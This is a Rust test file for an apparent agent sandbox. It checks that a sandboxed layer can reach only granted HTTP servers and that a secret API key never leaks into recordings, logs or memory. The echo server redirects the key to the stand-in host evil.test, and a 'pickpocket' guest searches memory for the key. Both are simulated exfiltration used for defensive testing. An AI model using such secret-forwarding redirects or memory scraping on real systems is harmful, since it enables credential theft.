//! The capability `http` through the real sandbox: what a layer is sent and told, and where secrets are not.

use std::io::Write;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use cepa::agent::Agent;
use cepa::chain::NoteKind;
use cepa::event::Outcome;
use cepa::http::SecretGrant;
use cepa::policy::Grants;
use cepa::secret::Secret;
use cepa_tests::agent::{Told, agent, ask, conversation, model};
use cepa_tests::chain::{LayerPlan, load};
use cepa_tests::guest;
use cepa_tests::recording::record;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};

const ANSWERS: &str = "[[turn]]\ntext = \"Answer.\"\nrepeat = true";
const KEY: &str = "sk-5ecret/v4lue+7";

/// A server that gives back what it was sent, in several forms. It ends with the runtime of its test.
async fn echoing() -> String {
    let listener = TcpListener::bind(("127.0.0.1", 0)).await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            tokio::spawn(answer(stream));
        }
    });
    format!("http://{address}")
}

async fn answer(mut stream: TcpStream) {
    let mut bytes = Vec::new();
    while !bytes.windows(4).any(|window| window == b"\r\n\r\n") {
        if stream.read_buf(&mut bytes).await.unwrap_or(0) == 0 {
            return;
        }
    }
    let head = String::from_utf8_lossy(&bytes).into_owned();
    let key = head.lines().find_map(|line| line.strip_prefix("authorization: Bearer ")).unwrap_or("none");
    let percent = key.replace('/', "%2F").replace('+', "%2B");
    let said = match head.split(' ').nth(1) {
        Some("/away") => format!("HTTP/1.1 302 Away\r\nlocation: http://evil.test/{percent}\r\n\r\n"),
        Some("/garbage") => format!("{key} {key}\r\n\r\n"),
        Some("/cut") => format!("HTTP/1.1 200 OK\r\ncontent-length: 1000\r\n\r\n{key}"),
        _ => {
            let coded = STANDARD.encode(format!("user:{key}"));
            let body = format!("{head}\n{key}\n{percent}\n{coded}\n{}", json!({ "key": key }));
            let length = body.len();
            format!(
                "HTTP/1.1 200 OK\r\ncontent-length: {length}\r\nx-echo: <{key}>\r\nconnection: close\r\n\r\n{body}"
            )
        }
    };
    let _ = stream.write_all(said.as_bytes()).await;
    let _ = stream.shutdown().await;
}

/// Requests to this server, with the key for it and another for elsewhere.
fn grants(server: &str) -> Grants {
    let secret =
        |name, server: &str| SecretGrant::new(name, Secret::new(KEY), vec![server.parse().unwrap()]).unwrap();
    Grants {
        http: vec![format!("GET,POST {server}").parse().unwrap()],
        secrets: vec![secret("key", server), secret("other", "https://api.test")],
        state: true,
        ..Grants::default()
    }
}

async fn with_layer(guest: &[u8], grants: Grants, config: Value) -> Agent {
    let component = load("layer", guest).await;
    let plan = LayerPlan::new("layer").grants(grants).config(config);
    // Room to look through a whole memory.
    let entry = plan.limits(|limits| limits.cpu = Duration::from_secs(20)).entry(&component);
    agent(&model(ANSWERS)).middleware(entry).build().await.unwrap()
}

fn denied(told: &Told) -> Vec<String> {
    let denied = |kind: &NoteKind| match kind {
        NoteKind::Denied { capability, object } => Some(format!("{capability} {object}")),
        _ => None,
    };
    told.notes.iter().filter_map(|note| denied(&note.kind)).collect()
}

#[tokio::test]
async fn a_layer_asks_granted_servers() {
    let server = echoing().await;
    let config = json!({ "before": [
        { "fetch": ["GET", format!("{server}/a"), [["x-one", "1"]], ""] },
        { "fetch": ["PUT", format!("{server}/a"), [], ""] },
        { "fetch": ["GET", format!("{server}/a"), [["host", "evil.test"]], ""] },
        { "fetch": ["GET", "http://127.0.0.2/a", [], ""] },
        { "fetch": ["GET", format!("{server}/away"), [], ""] },
    ] });
    let agent = with_layer(guest!("uses"), grants(&server), config).await;
    let told = ask(&agent, "Go").await;
    assert_eq!(told.result.response.outcome, Outcome::Replied);
    let port = server.rsplit(':').next().unwrap();
    insta::assert_snapshot!(told.log().replace(port, "PORT"));
    insta::assert_snapshot!(denied(&told).join("\n").replace(port, "PORT"), @r"
    http PUT http://127.0.0.1:PORT/a
    http GET http://127.0.0.2/a
    http GET http://evil.test/none
    ");
}

/// Everything that is logged, as it is written.
#[derive(Clone, Debug, Default)]
struct Lines(Arc<Mutex<Vec<u8>>>);

impl Write for Lines {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// Parts of the key in the forms that the server gives it back in.
fn parts() -> Vec<String> {
    let coded = STANDARD.encode(KEY);
    let turned = STANDARD.encode(format!("user:{KEY}"));
    let middle = |text: &str| text[8..18].to_owned();
    vec!["5ecret".to_owned(), "v4lue".to_owned(), middle(&coded), middle(&turned)]
}

fn turned(text: &str) -> Vec<u8> {
    text.bytes().map(|byte| !byte).collect()
}

#[tokio::test]
async fn a_secret_is_in_no_recording() {
    let server = echoing().await;
    let header = json!(["authorization", "Bearer ${secret:key}"]);
    let config = json!({ "before": [{ "fetch": ["GET", format!("{server}/a"), [header], ""] }] });
    let plan = LayerPlan::new("layer").grants(grants(&server)).config(config);
    let taken = record(agent(&model(ANSWERS)), plan, guest!("uses")).await;
    taken.is_the_same().await;
    let text = taken.text();
    assert!(text.contains("${secret:key}"), "the layer asked with the key: {text}");
    for part in parts() {
        assert!(!text.contains(&part) && !taken.told.log().contains(&part), "`{part}` in {text}");
    }
}

#[tokio::test]
async fn a_secret_is_in_no_memory_event_note_log_error_or_stored_message() {
    let lines = Lines::default();
    let writer = lines.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing_subscriber::filter::LevelFilter::TRACE)
        .with_writer(move || writer.clone())
        .finish();
    let server = echoing().await;
    // The last one is in the guest's memory for sure, and shows that the search finds what is there.
    let needles: Vec<Vec<u8>> =
        parts().iter().map(String::as_str).chain(["Bearer ${secret:key}"]).map(turned).collect();
    let config = json!({ "url": format!("{server}/echo"), "needles": needles });
    let agent = with_layer(guest!("pickpocket"), grants(&server), config).await;
    let told = {
        let _logging = tracing::subscriber::set_default(subscriber);
        ask(&agent, "Go").await
    };

    assert_eq!(told.result.response.outcome, Outcome::Failed);
    let all = format!("{told:?}\n{}\n{:?}\n{agent:?}", told.log(), conversation(&agent).await);
    assert!(
        all.contains("all that was found") && all.contains("***"),
        "the guest saw the echo and told it: {all}"
    );
    assert!(all.contains("in memory: [0, 0, 0, 0, "), "{}", told.log());
    assert!(!all.contains("in memory: [0, 0, 0, 0, 0]"), "the search finds what is there: {}", told.log());
    let log = String::from_utf8(lines.0.lock().unwrap().clone()).unwrap();
    for part in parts() {
        assert!(!all.contains(&part), "{part} in {all}");
        assert!(!log.contains(&part), "{part} in {log}");
    }
    let port = server.rsplit(':').next().unwrap();
    insta::assert_snapshot!(denied(&told).join("\n").replace(port, "PORT"), @r"
    secrets other at http://127.0.0.1:PORT
    secrets unknown at http://127.0.0.1:PORT
    secrets other at http://127.0.0.1:PORT
    secrets unknown at http://127.0.0.1:PORT
    http GET http://evil.test/***
    secrets other at http://127.0.0.1:PORT
    secrets unknown at http://127.0.0.1:PORT
    secrets other at http://127.0.0.1:PORT
    secrets unknown at http://127.0.0.1:PORT
    ");
}
